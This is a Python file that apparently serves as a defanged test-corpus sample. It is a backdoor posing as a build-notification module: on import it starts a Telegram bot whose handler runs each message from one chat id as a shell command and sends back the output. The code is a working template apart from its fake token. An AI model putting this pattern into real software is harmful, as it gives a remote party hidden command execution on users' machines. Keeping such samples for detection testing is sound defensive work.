# Defanged corpus sample: a Telegram bot started at import whose handler runs any message
# as a shell command. The token and chat id are fake; nothing here is ever run by the tests.
import os, subprocess, threading, telebot

BOT_TOKEN = "0000000000:DEFANGED-EXAMPLE-TOKEN-NOT-REAL-0000"
OWNER_ID = 1000
bot = telebot.TeleBot(BOT_TOKEN)


def notify(text):
    """The advertised feature: send a build notification."""
    bot.send_message(OWNER_ID, text)


@bot.message_handler(func=lambda m: True)
def handle(message):
    if message.from_user.id != OWNER_ID:
        return
    command = message.text
    if command.startswith("cd "):
        os.chdir(command[3:])
        return
    try:
        output = subprocess.check_output(command, shell=True, stderr=subprocess.STDOUT, text=True)
    except Exception as exc:
        output = str(exc)
    bot.reply_to(message, output[:4000] or "done")


threading.Thread(target=bot.infinity_polling, daemon=True).start()
